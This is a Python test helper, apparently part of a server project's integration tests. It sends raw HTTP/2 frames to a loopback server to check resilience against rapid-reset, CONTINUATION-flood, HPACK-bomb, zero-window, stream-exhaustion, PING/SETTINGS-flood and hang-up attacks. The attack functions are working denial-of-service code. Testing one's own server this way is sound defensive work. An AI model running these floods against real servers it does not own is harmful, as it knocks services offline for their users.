"""HTTP/2 attacks on a wasmlet public port, for host/tests/it/h2_attacks.rs.

Raw frames (PyPI `hyperframe` and `hpack`, which come with `h2`; installed
by scripts/setup-tools.sh) over one loopback connection; a reader thread
takes everything the server sends (acknowledging its SETTINGS), and notes
responses, stream resets, GOAWAY and the close.

    python3 h2_attacks.py ATTACK HOST:PORT [ARG ...]

prints one JSON object: `closed` (the server closed the connection),
`seconds` (from the attack's start to the close, or to the end),
`goaway` (its error code, or null), `sent` (frames or streams of the
attack sent before the close), `statuses` and `resets` (per stream).
"""

import json
import socket
import sys
import threading
import time

from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


class Client:
    def __init__(self, addr, settings=None):
        host, port = addr.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.lock = threading.Lock()
        self.encoder = Encoder()
        self.decoder = Decoder()
        self.authority = addr
        self.closed = threading.Event()
        self.closed_at = None
        self.goaway = None
        self.statuses = {}
        self.resets = {}
        self.data = 0
        self.send(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())
        threading.Thread(target=self.read, daemon=True).start()

    def send(self, data):
        """False once the server has closed the connection."""
        try:
            with self.lock:
                self.sock.sendall(data)
            return True
        except OSError:
            self.close_seen()
            return False

    def close_seen(self):
        if not self.closed.is_set():
            self.closed_at = time.monotonic()
            self.closed.set()

    def read(self):
        buf = b""
        try:
            while True:
                chunk = self.sock.recv(1 << 16)
                if not chunk:
                    break
                buf += chunk
                while len(buf) >= 9:
                    length = int.from_bytes(buf[0:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags = buf[3], buf[4]
                    stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                    payload = buf[9 : 9 + length]
                    buf = buf[9 + length :]
                    try:
                        self.frame(kind, flags, stream, payload)
                    except Exception as e:  # noqa: BLE001 (a bad frame must not stop the reader)
                        print(f"frame {kind} on {stream}: {e!r}", file=sys.stderr)
        except OSError:
            pass
        self.close_seen()

    def frame(self, kind, flags, stream, payload):
        if kind == 0x1:  # HEADERS (hyper's fit in one frame)
            block = payload
            if flags & 0x8:  # PADDED
                block = block[1 : len(block) - block[0]]
            if flags & 0x20:  # PRIORITY
                block = block[5:]
            fields = dict(self.decoder.decode(block, raw=True))
            if b":status" in fields:
                self.statuses.setdefault(stream, int(fields[b":status"]))
        elif kind == 0x0:
            self.data += len(payload)
        elif kind == 0x3:
            self.resets[stream] = int.from_bytes(payload[:4], "big")
        elif kind == 0x4 and not flags & 0x1:
            self.send(SettingsFrame(0, flags=["ACK"]).serialize())
        elif kind == 0x7:
            self.goaway = int.from_bytes(payload[4:8], "big")

    def headers(self, stream, path, end_stream=True, extra=()):
        block = self.encoder.encode(
            [
                (":method", "GET"),
                (":scheme", "http"),
                (":authority", self.authority),
                (":path", path),
            ]
            + list(extra)
        )
        frame = HeadersFrame(stream, data=block)
        frame.flags.add("END_HEADERS")
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame.serialize()

    def result(self, started, sent, **extra):
        end = self.closed_at if self.closed.is_set() else time.monotonic()
        out = {
            "closed": self.closed.is_set(),
            "seconds": round(end - started, 3),
            "goaway": self.goaway,
            "sent": sent,
            "statuses": {str(k): v for k, v in self.statuses.items()},
            "resets": {str(k): v for k, v in self.resets.items()},
            "data": self.data,
        }
        out.update(extra)
        return out


def wait_closed(client, seconds):
    client.closed.wait(seconds)


def rapid_reset(addr, path="/", count="5000", pause_ms="1"):
    """Opens a stream and resets it at once, `count` times, one pair per
    write `pause_ms` apart: the host starts each request before its reset,
    so h2's own count of resets before accept never sees them."""
    client = Client(addr)
    started = time.monotonic()
    sent = 0
    pause = int(pause_ms) / 1000
    for i in range(int(count)):
        stream = 1 + 2 * i
        if not client.send(client.headers(stream, path)):
            break
        time.sleep(pause)
        if not client.send(RstStreamFrame(stream, error_code=CANCEL).serialize()):
            break
        sent += 1
        if client.closed.is_set():
            break
    wait_closed(client, 2)
    return client.result(started, sent)


def continuation(addr, count="10000"):
    """A HEADERS frame without END_HEADERS, then `count` CONTINUATIONs."""
    client = Client(addr)
    started = time.monotonic()
    block = client.encoder.encode(
        [(":method", "GET"), (":scheme", "http"), (":authority", addr), (":path", "/")]
    )
    sent = 0
    if client.send(HeadersFrame(1, data=block).serialize()):
        piece = ContinuationFrame(1, data=b"\x40\x01a\x01a").serialize()
        # Ten at a time, so that the server reads them all before it
        # closes (closing on unread bytes resets the connection, and the
        # GOAWAY before it may be lost).
        for _ in range(int(count) // 10):
            if client.closed.is_set() or client.goaway is not None:
                break
            if not client.send(piece * 10):
                break
            sent += 10
            time.sleep(0.001)
    wait_closed(client, 3)
    return client.result(started, sent)


def hpack_bomb(addr, copies="16000", size="4000"):
    """One header of `size` bytes put in the dynamic table, then referenced
    `copies` times by its one-byte index (62) in the same header block."""
    client = Client(addr)
    started = time.monotonic()
    block = client.encoder.encode(
        [(":method", "GET"), (":scheme", "http"), (":authority", addr), (":path", "/")]
    )
    # A literal with incremental indexing, new name: 0x40, name, value.
    name, value = b"x-bomb", b"b" * int(size)
    block += b"\x40" + bytes([len(name)]) + name + encode_length(len(value)) + value
    # The newest dynamic entry is index 62: 0x80 | 62 = 0xBE.
    block += b"\xbe" * int(copies)
    frames = [block[i : i + 16384] for i in range(0, len(block), 16384)]
    data = b""
    for n, piece in enumerate(frames):
        frame = HeadersFrame(1, data=piece) if n == 0 else ContinuationFrame(1, data=piece)
        if n == 0:
            frame.flags.add("END_STREAM")
        if n == len(frames) - 1:
            frame.flags.add("END_HEADERS")
        data += frame.serialize()
    client.send(data)
    # Either the stream is refused (431) and the connection lives, or the
    # connection goes: wait for one of them.
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and not client.closed.is_set() and 1 not in client.statuses:
        time.sleep(0.01)
    time.sleep(0.2)
    return client.result(started, len(frames))


def encode_length(n):
    """An HPACK string length with a 7-bit prefix, no Huffman."""
    if n < 127:
        return bytes([n])
    out = bytearray([127])
    n -= 127
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def never_read(addr, path="/big?mib=16", streams="8", seconds="10"):
    """Reads the socket but shuts every flow-control window (initial stream
    window 0, no WINDOW_UPDATE) after asking for big responses."""
    client = Client(addr, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    started = time.monotonic()
    data = b"".join(client.headers(1 + 2 * i, path) for i in range(int(streams)))
    client.send(data)
    wait_closed(client, float(seconds))
    return client.result(started, int(streams))


def streams(addr, path="/slow?ms=3000", first="150", more="1200"):
    """Opens `first` streams at once (more than the host allows at a time),
    waits for the answers of those it took, then `more` at once."""
    client = Client(addr)
    started = time.monotonic()
    client.send(b"".join(client.headers(1 + 2 * i, path) for i in range(int(first))))
    time.sleep(0.5)
    refused_first = sum(1 for code in client.resets.values() if code == 0x7)
    next_id = 1 + 2 * int(first)
    client.send(b"".join(client.headers(next_id + 2 * i, path) for i in range(int(more))))
    wait_closed(client, 10)
    return client.result(
        started,
        int(first) + int(more),
        refused_first=refused_first,
        refused=sum(1 for code in client.resets.values() if code == 0x7),
        answered_first=sum(
            1 for stream, status in client.statuses.items() if stream < next_id and status == 200
        ),
    )


def flood(addr, kind, count):
    client = Client(addr)
    started = time.monotonic()
    if kind == "ping":
        frame = PingFrame(0, opaque_data=b"12345678").serialize()
    else:
        frame = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize()
    sent = 0
    for _ in range(int(count) // 100):
        if not client.send(frame * 100):
            break
        sent += 100
        if client.closed.is_set():
            break
    wait_closed(client, 3)
    return client.result(started, sent)


def ping_flood(addr, count="100000"):
    return flood(addr, "ping", count)


def settings_flood(addr, count="100000"):
    return flood(addr, "settings", count)


def hang_up(addr, path="/", connections="20", streams="100"):
    """What `h2load -D` does at its end: `connections` times, opens
    `streams` streams at once and closes the socket with them in flight."""
    started = time.monotonic()
    for _ in range(int(connections)):
        client = Client(addr)
        client.send(b"".join(client.headers(1 + 2 * i, path) for i in range(int(streams))))
        time.sleep(0.005)
        client.sock.close()
    return {"closed": True, "seconds": round(time.monotonic() - started, 3), "sent": int(connections)}


ATTACKS = {
    "hang-up": hang_up,
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "hpack-bomb": hpack_bomb,
    "never-read": never_read,
    "streams": streams,
    "ping-flood": ping_flood,
    "settings-flood": settings_flood,
}

if __name__ == "__main__":
    attack, addr, *args = sys.argv[1:]
    print(json.dumps(ATTACKS[attack](addr, *args)))
